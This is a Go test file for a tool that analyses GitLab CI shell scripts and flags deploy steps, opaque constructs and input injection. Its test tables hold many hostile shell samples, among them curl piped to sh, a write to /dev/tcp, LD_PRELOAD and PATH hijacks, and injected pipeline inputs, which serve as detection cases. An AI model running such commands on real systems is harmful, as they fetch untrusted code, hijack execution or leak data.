		`(curl -fsSL https://dl.dagger.io/dagger/install.sh; echo x) | sh`,
		`curl() { echo hi; }; curl -fsSL https://dl.dagger.io/dagger/install.sh | sh`,
		`curl -fsSL https://dl.dagger.io/dagger/install.sh | tee x | sh`,
		`wget -O - https://example.com/x | bash -s -- --yes`,
		`bash <(curl -s https://example.com/x)`,
		`source <(curl -s https://example.com/x)`,
		`curl -o x.sh https://example.com/x.sh && sh x.sh`,
		`python deploy.py`,
		`python3 -c 'import os'`,
		`node deploy.js`,
		`make deploy`,
		`make`,
		`npm run deploy`,
		`npx ts-node deploy.ts`,
		`ruby deploy.rb`,
		`perl -e 'exec "kubectl"'`,
		`php artisan deploy`,
		`deploy production`,
		`ssh deploy@host kubectl get pods`,
		`scp x host:/y`,
		`rsync -a x host:/y`,
		`docker run --rm bitnami/kubectl apply -f x`,
		`docker exec x kubectl apply -f y`,
		`docker compose up -d`,
		`kubectl $ACTION pods`,
		`kubectl --foo apply get`,
		`kubectl $ARGS get pods`,
		`kubectl frobnicate`,
		`kubectl $[[ inputs.actions ]] pod x`,
		`helm $ACTION app ./chart`,
		`helm secrets upgrade app ./chart`,
		`helm template app ./chart --post-renderer ./x.sh`,
		`crossbill "$ACTION"`,
		`crossbill $[[ inputs.actions ]]`,
		`crossbill frobnicate`,
		`$[[ inputs.open ]] status`,
		`dagger call -m github.com/evil/module deploy`,
		`dagger call -m github.com/evil/module status`,
		`dagger call -m . frobnicate`,
		`dagger call -m . "$FUNCTION"`,
		`dagger call -m . cli with-exec --args=promote`,
		`dagger -c 'promote'`,
		`dagger query`,
		`cd /tmp/x && dagger call -m . status`,
		`git clone https://example.com/x && cd x && dagger call -m . status`,
		`cp -r other/ci . ; cp x dagger.json; dagger call -m . status`,
		`curl -X POST https://deploy.example.com/hooks/production`,
		`curl -X "$METHOD" https://app.example.com`,
		`curl $OPTS https://app.example.com`,
		`curl -K config https://app.example.com`,
		`curl -d x "$TARGET"`,
		`curl -X POST -H "PRIVATE-TOKEN: $GITLAB_TOKEN" "$SLACK_WEBHOOK"`,
		`echo x > /dev/tcp/1.2.3.4/80`,
		`export PATH=./bin:$PATH; curl -fsS https://app.example.com`,
		`PATH=/tmp:$PATH; ls`,
		`cp evil /usr/local/bin/curl; curl -fsS https://app.example.com`,
		`curl -o /usr/local/bin/jq https://example.com/x; chmod +x /usr/local/bin/jq; jq .`,
		`echo x > /usr/bin/jq; jq .`,
		`tar xzf x.tgz -C /usr/local/bin; jq .`,
		`echo 'kubectl apply' >> ~/.bashrc`,
		`export BASH_ENV=x; bash -c true`,
		`export LD_PRELOAD=./x.so; ls`,
		`xargs < commands -I{} sh -c {}`,
		`echo x | xargs sh -c`,
		`awk 'BEGIN { system("kubectl apply -f x") }'`,
		`awk -f prog.awk x`,
		`sed 's/x/kubectl apply -f y/e' z`,
		`sed -n '1e kubectl apply' z`,
		`find . -exec {} \;`,
		`find . -exec sh {} \;`,
		`tar xf x --to-command=./x`,
		`git -c alias.x='!kubectl apply' x`,
		`git config alias.x '!kubectl apply -f y'`,
		`git difftool`,
		`echo 'unterminated`,
		`if true; then echo`,
		`echo ((`,
		"echo 'a\n---\nkubectl apply -f x; echo b'",
		"echo a \\\n---\necho b",
		"cat <<EOF\n---\necho\n---\nEOF",
		`alias echo='kubectl apply -f x;'; echo hi`,
		`hash -p /tmp/x curl; curl`,
		`enable -f ./x.so x`,
		`declare -n ref=IMAGE; ref=x`,
		`export "$X"`,
		`read -r "$X"`,
		`{kubectl,apply,-f,x}`,
		`!(kubectl apply -f x)`,
		`echo "${X@P}"`,
		`echo $((X))`,
		`[[ $X -eq 1 ]]`,
		`mapfile -C 'kubectl apply' -c 1 a < f`,
		`$'kubectl\x20' apply`,
		`~/bin/kubectl get pods`,
		`./kubectl get pods`,
		`flock lock crossbill status`,
		`parallel kubectl apply -f ::: a b`,
		`watch kubectl get pods`,
		`su -c 'kubectl apply -f x'`,
		`script -c 'kubectl apply -f x'`,
		`vim -c '!kubectl'`,
		`printf -v "$X" y`,
		`printf 'kubectl apply' > x && chmod +x x && ./x`,
		`unshare kubectl get pods`,
		`X=a; X="$X[$(id)]"; echo $((X))`,
		`f() { "$@"; }; f $CMD`,
		`eval() { echo hi; }; eval x`,
		`KUBECTL_EXTERNAL_DIFF=./x kubectl diff -f y`,
		`mkfifo p; sh < p & echo 'kubectl apply -f x' > p`,
		`npm install -g ./evil && evil`,
		`curl -fsS https://app.example.com -o "$OUT"`,
		`echo x > "$OUT"`,
		`nsenter -t 1 ls`,
		`kubectl-argo-rollouts promote x`,
		`vault write secret/x a=b`,
		`skopeo copy docker://a docker://b`,
		`crane copy a b`,
	},
	"changes ~opaque": {
		`alias k='kubectl apply'; k -f x`,
		`C=status; trap 'crossbill $C' EXIT; C=promote; exit; C=status`,
		`crossbill ${X:+status} ${X:-promote}`,
		`case x in x) c=promote;; y) c=status;; esac; crossbill $c`,
		`kubectl() { /usr/local/bin/kubectl "$@"; }; kubectl apply -f x`,
		`./kubectl apply -f x`,
		`dagger call -m . --frobnicate promote`,
		`kubectl proxy &`,
		`crossbill $FLAGS promote`,
		`curl -X POST "$CI_API_V4_URL/projects/$CI_PROJECT_ID/trigger/pipeline" -d "$X"`,
		`eval "$X"; crossbill promote`,
		`dagger call -m . trigger`,
		`X=promote; unset X; crossbill ${X:-promote}`,
	},
	"changes opaque": {
		`crossbill rollback $OPTIONS --to previous; crossbill rollback "$X"`,
	},
	"changes uses": {
		`curl -k -X DELETE "https://$KUBE/api/v1/namespaces/production/pods/x"`,
		`kubectl --context "$KUBE_CONTEXT" apply -f x`,
		`kubectl -n "$NAMESPACE" apply -f x`,
		`kubectl --namespace="$NS" apply -f x`,
		`crossbill promote --context "$TARGET"`,
		`crossbill promote --config "$CONFIG"`,
		`crossbill promote --prometheus "$PROMETHEUS_URL"`,
		`KUBECONFIG="$OTHER" kubectl apply -f x`,
		`dagger call promote`,
		`dagger call -m "$DAGGER_MODULE" promote`,
		`NAMESPACE="${NAMESPACE:-production}"; kubectl -n "$NAMESPACE" apply -f x`,
		`: "${NAMESPACE:=production}"; kubectl -n "$NAMESPACE" apply -f x`,
		`[ -n "$NAMESPACE" ] || NAMESPACE=production; kubectl -n "$NAMESPACE" apply -f x`,
		`f() { kubectl -n "$1" apply -f x; }; f "$NAMESPACE"`,
		`N="$NAMESPACE"; kubectl -n "$N" apply -f x`,
		`(NAMESPACE=production); kubectl -n "$NAMESPACE" apply -f x`,
		`helm upgrade app ./chart --namespace "$NAMESPACE"`,
		`helm upgrade app ./chart --kube-context "$CTX"`,
		`export NAMESPACE; kubectl -n "$NAMESPACE" apply -f x`,
	},
	"uses": {
		`crossbill verify --namespace "$NAMESPACE" --context "$KUBE_CONTEXT"`,
		`crossbill rollback --context "$KUBE_CONTEXT"`,
		`crossbill() { dagger call -m . --context "$KUBE_CONTEXT" "$@"; }; crossbill verify`,
		`crossbill() { dagger call -m . ${CLI:+--cli "$CLI"} "$@"; }; crossbill verify`,
	},
	"uses image": {
		`crossbill canary --image "$IMAGE"`,
		`crossbill canary --image "${IMAGE:-app@` + digest + `}"`,
		`: "${IMAGE:=app@` + digest + `}"; crossbill canary --image "$IMAGE"`,
		`if [ -z "$IMAGE" ]; then IMAGE=app@` + digest + `; fi; crossbill canary --image "$IMAGE"`,
		`[ -n "$X" ] && IMAGE='$[[ inputs.image ]]'; crossbill canary --image "$IMAGE"`,
		`(IMAGE='$[[ inputs.image ]]'); crossbill canary --image "$IMAGE"`,
		`echo x | IMAGE='$[[ inputs.image ]]'; crossbill canary --image "$IMAGE"`,
		`IMAGE='$[[ inputs.image ]]' true; crossbill canary --image "$IMAGE"`,
		`f() { local IMAGE='$[[ inputs.image ]]'; }; f; crossbill canary --image "$IMAGE"`,
		`crossbill canary --image "$IMAGE"; IMAGE='$[[ inputs.image ]]'`,
		`crossbill canary --image "$APP_IMAGE"`,
	},
	"image": {
		`export "IMAGE=app:latest"; crossbill canary --image "$IMAGE"`,
		`crossbill canary --image app:latest`,
		`crossbill canary --image=app:1.2.3`,
		`crossbill canary --image app`,
		`crossbill canary --image app@sha256:0123`,
		`crossbill canary --image app@` + digest + `0`,
		`crossbill canary --image '$[[ inputs.tag ]]'`,
		`crossbill canary --image 'app:$[[ inputs.tag ]]'`,
		`crossbill canary --bundle registry.example.com/our-org/app:latest`,
		`crossbill canary --bundle 'oci://$[[ inputs.any ]]'`,
		`BUNDLE=$(cat bundle.txt); crossbill canary --bundle "oci://$BUNDLE"`,
		`crossbill canary --bundle 'oci://registry.example.com/app:$[[ inputs.tag ]]'`,
		`BUNDLE='$[[ inputs.bundle ]]'; [ -n "$X" ] && BUNDLE=app:latest; crossbill canary --bundle "$BUNDLE"`,
		`crossbill canary --image '$[[ inputs.open ]]'`,
		`crossbill canary --image '$[[ inputs.undeclared ]]'`,
		`crossbill canary --image '$[[ inputs.image | truncate(0,20) ]]'`,
		`crossbill canary --image '$[[ inputs.image ]]:latest'`,
		`IMAGE='$[[ inputs.image ]]'; IMAGE=app:latest; crossbill canary --image "$IMAGE"`,
		`IMAGE='$[[ inputs.image ]]'; if [ -n "$X" ]; then IMAGE=app:latest; fi; crossbill canary --image "$IMAGE"`,
		`IMAGE='$[[ inputs.image ]]'; [ -n "$X" ] && IMAGE=app:latest; crossbill canary --image "$IMAGE"`,
		`IMAGE='$[[ inputs.image ]]'; f() { IMAGE=app:latest; }; f; crossbill canary --image "$IMAGE"`,
		`IMAGE='$[[ inputs.image ]]'; for x in 1 2; do IMAGE=app:latest; done; crossbill canary --image "$IMAGE"`,
		`IMAGE='$[[ inputs.image ]]'; while read -r IMAGE; do :; done < f; crossbill canary --image "$IMAGE"`,
		`IMAGE='$[[ inputs.image ]]'; read -r IMAGE < f; crossbill canary --image "$IMAGE"`,
		`IMAGE='$[[ inputs.image ]]'; IMAGE+=:latest; crossbill canary --image "$IMAGE"`,
		`IMAGE='$[[ inputs.image ]]'; printf -v IMAGE x; crossbill canary --image "$IMAGE"`,
		`IMAGE='$[[ inputs.image ]]'; for IMAGE in app:latest; do :; done; crossbill canary --image "$IMAGE"`,
		`IMAGE='$[[ inputs.image ]]'; { IMAGE=app:latest; }; crossbill canary --image "$IMAGE"`,
		`IMAGE='$[[ inputs.image ]]'; export IMAGE=app:latest; crossbill canary --image "$IMAGE"`,
		`IMAGE='$[[ inputs.image ]]'; command export IMAGE=app:latest; crossbill canary --image "$IMAGE"`,
		`IMAGE='$[[ inputs.image ]]'; case x in x) IMAGE=app:latest;; esac; crossbill canary --image "$IMAGE"`,
		`IMAGE=$(cat image.txt); crossbill canary --image "$IMAGE"`,
		`IMAGE='$[[ inputs.image ]]'; crossbill canary --image "${IMAGE%@*}:latest"`,
		`IMAGE='$[[ inputs.image ]]'; crossbill canary --image "${IMAGE%%@*}"`,
		`f() { IMAGE=app:latest; local IMAGE=app@` + digest + `; }; f; crossbill canary --image "$IMAGE"`,
		`for x in 1; do IMAGE=app:latest; break; IMAGE=app@` + digest + `; done; IMAGE2="$IMAGE"; crossbill canary --image "$CI_REGISTRY_IMAGE:x"`,
		`f() { IMAGE=app:latest; return; IMAGE=app@` + digest + `; }; f; crossbill canary --image "$IMAGE"`,
		`eval 'IMAGE=app:latest'; crossbill canary --image "$IMAGE"`,
	},
	"changes image": {
		`kubectl set image -n production deployment/x app=registry.example.com/app:latest`,
		`kubectl set image deployment/x app=app:$CI_COMMIT_SHORT_SHA`,
		`kubectl -n production set image deployment/x a=b@` + digest + ` c=d:latest`,
		`kubectl set image deployment/x "$CI_JOB_NAME=app:latest"`,
		`kubectl create deployment x --image=app:1`,
		`kubectl run x --image app:1`,
		`helm upgrade app ./chart --set image.tag=v1`,
		`helm upgrade --install app ./chart --set image.tag="$CI_COMMIT_SHORT_SHA"`,
		`helm upgrade app ./chart --set-string app.image=app:1,replicas=2`,
		`helm upgrade app ./chart --set replicas=2,image.tag=1`,
		`kustomize edit set image app=app:1 && kubectl apply -k .`,
		`kubectl set image deployment/x app='$[[ inputs.tag ]]'`,
	},
	"changes opaque image": {
		`IMAGE='$[[ inputs.image ]]'; eval "$X"; kubectl set image deployment/x app=$IMAGE`,
		`IMAGE='$[[ inputs.image ]]'; . ./x.sh; kubectl set image deployment/x app=$IMAGE`,
	},
	"changes uses image": {
		`kubectl set image deployment/x app=$IMAGE`,
		`kubectl set image deployment/x app="$APP_IMAGE"`,
		`helm upgrade app ./chart --set image="$IMAGE"`,
	},
}

// TestReturns: what names the release to go back to changes production, and what may do so is not understood.
func TestReturns(t *testing.T) {
	for script, want := range map[string]string{
		`crossbill rollback --to previous`:               "changes",
		`crossbill rollback --reason x --to=one`:         "changes",
		`crossbill rollback --to "$RELEASE"`:             "changes",
		`dagger call -m . rollback --to previous`:        "changes",
		`dagger call -m . rollback --reason x`:           "canary",
		`crossbill rollback $OPTIONS`:                    "opaque",
		`crossbill rollback --takeover "$X"`:             "opaque",
		`crossbill rollback --hold "$X"`:                 "opaque",
		`crossbill rollback --reason "$X" "$Y"`:          "opaque",
		`crossbill rollback --reason "$X" -n production`: "canary",
		`f() { crossbill rollback "$@"; }; f --to x`:     "changes",
		`f() { crossbill rollback "$@"; }; f --reason x`: "canary",
	} {
		if got := verdictOf(analyzed(script)); got != want {
			t.Errorf("%s is %s, want %s", script, got, want)
		}
	}
}

// TestCredentialsOfACall: which credentials a call of the module has changes nothing, where they are certainly no more than that.
func TestCredentialsOfACall(t *testing.T) {
	const some = `${CROSSBILL_GITHUB_TOKEN:+--github-token env:CROSSBILL_GITHUB_TOKEN} ${KEY:+--gitops-ssh-key "file:$KEY" --gitops-known-hosts "$HOSTS"} `
	for script, want := range map[string]string{
		`dagger call -m . %spromote`:                                "changes",
		`dagger call -m . promote %s`:                               "changes",
		`dagger call -m . %sstatus`:                                 "reads",
		`dagger call -m . %sverify --manifests-bundle "$BUNDLE"`:    "uses image",
		`dagger call -m . rollback %s--to previous`:                 "changes",
		`dagger call -m . %s"$X"`:                                   "opaque",
		`dagger call -m . --frobnicate %spromote`:                   "changes opaque",
		`dagger call -m . ${X:+--github-token promote} status`:      "reads",
		`dagger call -m . ${X:+--github-token "$TOKEN"} promote`:    "changes uses",
		`dagger call -m . ${X:+--github-token} promote`:             "changes",
		`dagger call -m . ${X:+--github-token $Y} promote`:          "changes opaque",
		`dagger() { kubectl apply -f k8s; }; dagger call %spromote`: "changes",
		`f() { "$6" promote; }; alias dagger=f; dagger call %s`:     "opaque uses",
		`dagger ${X:+--github-token env:X} call -m . promote`:       "changes opaque",
	} {
		line := strings.ReplaceAll(script, "%s", some)
		if got := verdictOf(analyzed(line)); got != want {
			t.Errorf("%s is %q, want %q", line, got, want)
		}
	}
	many := ""
	for n := range 12 {
		many += fmt.Sprintf("${X%d:+--github-token env:X%[1]d} ", n)
	}
	if got := verdictOf(analyzed("dagger call -m . " + many + "promote")); got != "changes" {
		t.Errorf("a call with a dozen credentials is %s", got)
	}
}

// TestAnalyzeOnce: a script that was analyzed before has the same effects as one that was not, on its own lines and with its own inputs.
func TestAnalyzeOnce(t *testing.T) {
	item := "export KUBECONFIG=$X\nhelm upgrade app $[[ inputs.chart ]] -n $[[ inputs.namespace ]]\nkubectl set image deployment/app app=$[[ inputs.image ]]\n./deploy.sh"
	for _, line := range []int{1, 40, 40, 7} {
		for _, pattern := range []string{"", "^.*$", "^registry.example.com/app@sha256:[0-9a-f]{64}$"} {
			script := []scriptLine{{item, line + 2}, {"kubectl get pods", line}, {"crossbill promote", line + 9}}
			inputs := map[string]Input{"image": {Regex: pattern}, "namespace": {Options: []string{"a"}, closed: true, line: line}}
			got, want := analyzeOnce(script, scriptContext{Inputs: inputs}), analyze(script, scriptContext{Inputs: inputs})
			if diff := cmp.Diff(want, got, cmp.AllowUnexported(effects{}), cmpopts.EquateEmpty()); diff != "" {
				t.Errorf("line %d, pattern %q (-anew +again):\n%s", line, pattern, diff)
			}
			if len(got.images) == 0 && !strings.Contains(pattern, "sha256") || len(got.changes) == 0 || len(got.inputs) == 0 || len(got.targets) == 0 {
				t.Errorf("too little is found: %+v", got)
			}
		}
	}
}

// TestManifestsOfABundle: who starts the pipeline may choose a bundle of the file's own registry, and no other source.
func TestManifestsOfABundle(t *testing.T) {
	for script, want := range map[string]struct{ images, targets int }{
		`crossbill verify --manifests 'oci://$[[ inputs.bundle ]]'`:                                                                     {0, 0},
		`export CROSSBILL_MANIFESTS='oci://$[[ inputs.bundle ]]'; crossbill verify`:                                                     {0, 0},
		`B='$[[ inputs.bundle ]]'; dagger call -m . ${B:+--manifests-bundle "$B"} verify`:                                               {0, 0},
		`unset CROSSBILL_MANIFESTS; if [ -n "$X" ]; then export CROSSBILL_MANIFESTS='oci://$[[ inputs.bundle ]]'; fi; crossbill verify`: {0, 0},
		`crossbill verify --manifests oci://registry.example.com/our-org/app@` + digest:                                                 {0, 0},
		`crossbill verify --manifests k8s`:                                                                                              {0, 0},
		`crossbill verify --manifests oci://registry.example.com/our-org/app:latest`:                                                    {1, 0},
		`crossbill verify --manifests 'oci://$[[ inputs.any ]]'`:                                                                        {1, 0},
		`crossbill verify --manifests 'oci://registry.example.com/app:$[[ inputs.tag ]]'`:                                               {1, 0},
		`crossbill verify --manifests 'oci://$[[ inputs.open ]]'`:                                                                       {1, 0},
		`crossbill verify --manifests "oci://$BUNDLE"`:                                                                                  {0, 1},
		`crossbill verify --manifests '$[[ inputs.bundle ]]'`:                                                                           {0, 1}, // a folder
		`crossbill verify --manifests '$[[ inputs.tag ]]'`:                                                                              {0, 1},
		`export CROSSBILL_MANIFESTS="oci://$BUNDLE"; crossbill verify`:                                                                  {0, 1},
		`if [ -n "$X" ]; then export CROSSBILL_MANIFESTS='oci://$[[ inputs.bundle ]]'; fi; crossbill verify`:                            {0, 1},
		`dagger call -m . --manifests-bundle '$[[ inputs.any ]]' verify`:                                                                {1, 0},
		`dagger call -m . --manifests-bundle "$BUNDLE" verify`:                                                                          {1, 1},
	} {
		e := analyzed(script)
		if len(e.images) != want.images || len(e.targets)+len(e.uses) != want.targets || len(e.opaque) > 0 {
			t.Errorf("%s: images %v, targets %v, uses %v, opaque %v; want %+v", script, e.images, e.targets, e.uses, e.opaque, want)
		}
	}
}

func TestAnalyze(t *testing.T) {
	for _, want := range slices.Sorted(maps.Keys(scripts)) {
		required := strings.Fields(want)
		optional := map[string]bool{}
		required = slices.DeleteFunc(required, func(word string) bool {
			name, found := strings.CutPrefix(word, "~")
			optional[name] = found
			return found
		})
		for _, script := range scripts[want] {
			e := analyzed(script)
			got := slices.DeleteFunc(strings.Fields(verdictOf(e)), func(word string) bool { return optional[word] })
			if !slices.Equal(got, required) {
				t.Errorf("%s\n\tis %s, want %s\n\tchanges %v\n\topaque %v\n\tuses %v\n\timages %v", script, got, want, e.changes, e.opaque, e.uses, e.images)
			}
		}
	}
}

// TestAnalyzeLines: an effect is reported where the job's script has it, and as it is written there.
func TestAnalyzeLines(t *testing.T) {
	e := analyze([]scriptLine{
		{"deploy() {\n  kubectl apply -f \"$1\"\n}", 10},
		{"echo '$[[ inputs.id ]]'", 14},
		{"if true; then\n  deploy x.yaml\nfi\nsh -c 'crossbill promote'", 20},
	}, scriptContext{Inputs: scriptInputs})
	want := []effect{
		{21, "deploy x.yaml", "kubectl apply", classChanges},
		{23, "sh -c 'crossbill promote'", "crossbill promote", classPromotes},
	}
	if !slices.Equal(e.changes, want) {
		t.Errorf("got %v, want %v", e.changes, want)
	}
	if use := (inputUse{Line: 14, Name: "id", Place: placeSingle}); !slices.Equal(e.inputs, []inputUse{use}) {
		t.Errorf("got %v, want %v", e.inputs, use)
	}
}

// TestInputPlaces: where GitLab inserts an input, and what its values can do there.
func TestInputPlaces(t *testing.T) {
	for script, want := range map[string]struct {
		place   inputPlace
		command bool
	}{
		`echo '$[[ inputs.x ]]'`:                      {placeSingle, false},
		`echo "a $[[ inputs.x ]]"`:                    {placeDouble, false},
		`echo "${Y:-$[[ inputs.x ]]}"`:                {placeDouble, false},
		`echo "$(echo $[[ inputs.x ]])"`:              {placeWord, false},
		`echo $[[ inputs.x ]]`:                        {placeWord, false},
		`echo a$[[ inputs.x ]]b`:                      {placeWord, false},
		`X=$[[ inputs.x ]]`:                           {placeWord, false},
		`export X=$[[ inputs.x ]]`:                    {placeWord, false},
		`echo > $[[ inputs.x ]]`:                      {placeWord, false},
		`$[[ inputs.x ]] promote`:                     {placeWord, true},
		`"$[[ inputs.x ]]" promote`:                   {placeDouble, true},
		`$[[ inputs.x ]]=y`:                           {placeName, false},
		`f$[[ inputs.x ]]() { :; }`:                   {placeName, false},
		`echo $((1 + $[[ inputs.x ]]))`:               {placeName, false},
		`echo ${$[[ inputs.x ]]}`:                     {placeName, false},
		"echo `echo '$[[ inputs.x ]]'`":               {placeName, false},
		"echo $'$[[ inputs.x ]]'":                     {placeName, false},
		"cat <<EOF\n$[[ inputs.x ]]\nEOF":             {placeHeredoc, false},
		"cat <<'EOF'\n$[[ inputs.x ]]\nEOF":           {placeQuotedHeredoc, false},
		"cat <<$[[ inputs.x ]]\na\n$[[ inputs.x ]]\n": {placeName, false},
		"echo a # $[[ inputs.x ]]":                    {placeComment, false},
		"for $[[ inputs.x ]] in a; do :; done":        {placeName, false},
		"echo 'unterminated $[[ inputs.x ]]":          {placeName, false},
		"export $[[ inputs.x ]]":                      {placeName, false},
	} {
		e := analyze([]scriptLine{{script, 1}}, scriptContext{})
		if len(e.inputs) == 0 || !slices.ContainsFunc(e.inputs, func(u inputUse) bool { return u.Place == want.place && u.Command == want.command && u.Name == "x" }) {
			t.Errorf("%s: %v, want %s, command: %t", script, e.inputs, want.place, want.command)
		}
	}
	for _, test := range []struct {
		place  inputPlace
		regex  string
		harmed bool
	}{
		{placeSingle, `^[a-z]+$`, false},
		{placeSingle, `^prod`, true},
		{placeSingle, `^[^']*$`, false},
		{placeSingle, `^.*$`, true},
		{placeSingle, `^a|b$`, true},
		{placeSingle, `^(a|b)$`, false},
		{placeSingle, `^a$|^b$`, false},
		{placeSingle, `(?m)^a$`, true},
		{placeSingle, `(?s)^.*$`, true},
		{placeSingle, `^[[:print:]]+$`, true},
		{placeSingle, `^\w+$`, false},
		{placeSingle, `^\S+$`, true},
		{placeSingle, ``, true},
		{placeSingle, `(`, true},
		{placeDouble, `^[a-z$]+$`, true},
		{placeDouble, `^[a-z']+$`, false},
		{placeDouble, `^[ -~]+$`, true},
		{placeWord, `^[a-z0-9.-]+$`, false},
		{placeWord, `^[a-z ]+$`, true},
		{placeWord, `^[a-z*]+$`, true},
		{placeWord, `^[a-zé]+$`, true},
		{placeHeredoc, `^[a-z$]+$`, true},
		{placeQuotedHeredoc, `^[a-z$]+$`, false},
		{placeQuotedHeredoc, `^[a-z\s]+$`, true},
		{placeComment, `^.+$`, false},
		{placeName, `^[a-z]+$`, false},
		{placeName, `^[a-z.]+$`, true},
		{placeSingle, `\A[a-z]+\z`, false},
		{placeSingle, `^[a-z]{1,20}(-[a-z]+)*$`, false},
		{placeSingle, `(?i)^k$`, false},
		{placeSingle, `^(x'){0}$`, false},
	} {
		if harm := (inputUse{Place: test.place}).harm(Input{Regex: test.regex}); (harm != "") != test.harmed {
			t.Errorf("%q %s: %q, want harm: %t", test.regex, test.place, harm, test.harmed)
		}
	}
}

// TestOnlyDigests compares patterns with digests.
func TestOnlyDigests(t *testing.T) {
	for pattern, want := range map[string]bool{
		`^a@sha256:[0-9a-f]{64}$`:                               true,
		`^a@sha256:[a-f0-9]{64}$`:                               true,
		`^(a@sha256:[0-9a-f]{64})?$`:                            true,
		`^a@sha256:[0-9a-f]{64}$|^b@sha256:[0-9a-f]{64}$`:       true,
		`^(?:(a|b)@sha256:[0-9a-f]{64}|c@sha256:[0-9a-f]{64})$`: true,
		`^(((a)))@sha256:([0-9a-f]{64})$`:                       true,
		`^[a-z./-]+(:[a-z0-9.]+)?@sha256:[0-9a-f]{64}$`:         true,
		`\Aa@sha256:[0-9a-f]{64}\z`:                             true,
		`^a@sha256:([0-9a-f]{32}){2}$`:                          true,
		`^a@sha256:([0-9]|[a-f]){64}$`:                          true,
		`^$`:                                                    true,
		`@sha256:[0-9a-f]{64}$`:                                 true, // it ends in one, whatever is before it
		`^a@sha256:[0-9a-f]{64}`:                                false,
		`^a@sha256:[0-9a-f]{63}$`:                               false,
		`^a@sha256:[0-9a-f]{64,}$`:                              false,
		`^a@sha256:[0-9a-f]{1,64}$`:                             false,
		`^a@sha256:[0-9a-g]{64}$`:                               false,
		`^a@sha256:[0-9A-F]{64}$`:                               false,
		`(?i)^a@sha256:[0-9a-f]{64}$`:                           false,
		`^a(@sha256:[0-9a-f]{64})?$`:                            false,
		`^a@sha256:[0-9a-f]{64}$|^b$`:                           false,
		`^a@sha256:[0-9a-f]{64}|b@sha256:[0-9a-f]{64}$`:         false,
		`^a@sha256:[0-9a-f]{64}(:latest)?$`:                     false,
		`^a:sha256:[0-9a-f]{64}$`:                               false,
		`(?m)^a@sha256:[0-9a-f]{64}$`:                           false,
		`^a@sha256.[0-9a-f]{64}$`:                               false,
		`^(a@sha256:[0-9a-f]{64}|)(b)?$`:                        false,
		`.*`:                                                    false,
		``:                                                      false,
	} {
		e := analyze([]scriptLine{{`crossbill canary --image '$[[ inputs.image ]]'`, 1}}, scriptContext{Inputs: map[string]Input{"image": {Regex: pattern}}})
		tagged := slices.ContainsFunc(e.images, func(u imageUse) bool { return !strings.Contains(u.Problem, "any registry") })
		if got := !tagged; got != want {
			t.Errorf("%s: %t, want %t", pattern, got, want)
		}
	}
}

// TestTargets: whoever starts the pipeline chooses neither the cluster nor the configuration.
func TestTargets(t *testing.T) {
	inputs := map[string]Input{"open": {Regex: `^[a-z-]+$`}, "listed": {Regex: `^(staging|production)$`}}
	for script, want := range map[string]bool{
		`kubectl delete -n '$[[ inputs.open ]]' pod x`:                                         true,
		`kubectl delete -n '$[[ inputs.listed ]]' pod x`:                                       false,
		`kubectl delete -n production pod x`:                                                   false,
		`kubectl config use-context "$DEPLOY_CONTEXT"`:                                         true,
		`kubectl config use-context "$CI_PROJECT_PATH:production"`:                             false,
		`kubectl config use-context "$CI_COMMIT_REF_NAME"`:                                     true,
		`aws eks update-kubeconfig --name '$[[ inputs.open ]]'`:                                true,
		`cp "config/$CLUSTER.yaml" crossbill.yaml; crossbill promote`:                          true,
		`echo "$CONFIG" | base64 -d > /tmp/kc; export KUBECONFIG=/tmp/kc; kubectl delete po x`: true,
		`N=$(printenv X); kubectl delete -n "$N" pod x`:                                        true,
		`export CROSSBILL_PROMETHEUS="$PROM"; crossbill verify`:                                true,
		`crossbill promote --kubeconfig "$KUBECONFIG"`:                                         false,
	} {
		e := analyze([]scriptLine{{script, 1}}, scriptContext{Inputs: inputs})
		if got := len(e.targets)+len(e.uses) > 0; got != want {
			t.Errorf("%s: %t, want %t", script, got, want)
		}
	}
	for pattern, want := range map[string]bool{`^([a-z0-9./_-]+@sha256:[0-9a-f]{64})?$`: false, `^(registry\.example\.com/our-org/[a-z]+@sha256:[0-9a-f]{64})?$`: true} {
		if hostIsFixed(pattern) != want {
			t.Errorf("%s: want %t", pattern, want)
		}
	}
}

// FuzzAnalyze: no script makes the analysis fail, or take long, and one that names a deployer plainly is not harmless.
func FuzzAnalyze(f *testing.F) {
	for _, group := range scripts {
		for _, script := range group {
			f.Add(script, "")
		}
	}
	for _, pattern := range hostilePatterns {
		f.Add("A='$[[ inputs.hostile ]]'; crossbill canary --image \"$A\"", pattern)
	}
	f.Add("crossbill proposal --app a --repository r/b -o dotenv > ./x.env\n. ./x.env\neval \"crossbill canary --image $CROSSBILL_IMAGE\"", "")
	f.Fuzz(func(t *testing.T, script, pattern string) {
		start := time.Now()
		analyze([]scriptLine{{script, 1}}, scriptContext{Inputs: map[string]Input{"hostile": {Regex: pattern}}})
		analyzed(script)
		if took := time.Since(start); took > 5*time.Second {
			t.Errorf("%s", took)
		}
		// Whatever stands before it in the same shell, a promotion is seen, unless the shell has ended, or what stands
		// there does not end.
		if _, err := parseShell(script); err == nil && !strings.Contains(script, "exit") && !strings.Contains(script, "exec") && !strings.Contains(script, "<<") && !strings.HasSuffix(script, "\\") {
			e := analyzed(script + "\n/usr/bin/crossbill promote")
			if len(e.changes) == 0 && len(e.opaque) == 0 {
				t.Errorf("%q hides a promotion", script)
			}
		}
	})
}

// TestAnalyzeBounds: what is nested or repeated too much is opaque, and takes no time.
func TestAnalyzeBounds(t *testing.T) {
	for _, script := range []string{
		strings.Repeat("(", 200_000), strings.Repeat("$(", 100_000), strings.Repeat("if ", 80_000), strings.Repeat("${a:-", 40_000), strings.Repeat("a|", 100_000) + "a",
		strings.Repeat("x=$x$x;", 2_000) + "$x", strings.Repeat("eval ", 20_000) + "a", "f() { f; f; }; f", `f() { f "$@" "$@"; }; f a`, strings.Repeat("${x:+a}", 30_000),
		strings.Repeat("while x; do ", 2_000) + "a" + strings.Repeat("; done", 2_000), "sh -c '" + strings.Repeat("a;", 50_000) + "'", strings.Repeat("'$[[ inputs.a ]]'", 5_000) + "(",
		"a\x00b", strings.Repeat("a", 300_000),
	} {
		start := time.Now()
		if e := analyzed(script); len(e.opaque) == 0 {
			t.Errorf("%.20s… is not opaque", script)
		}
		if took := time.Since(start); took > 10*time.Second {
			t.Errorf("%.20s… took %s", script, took)
		}
	}
}
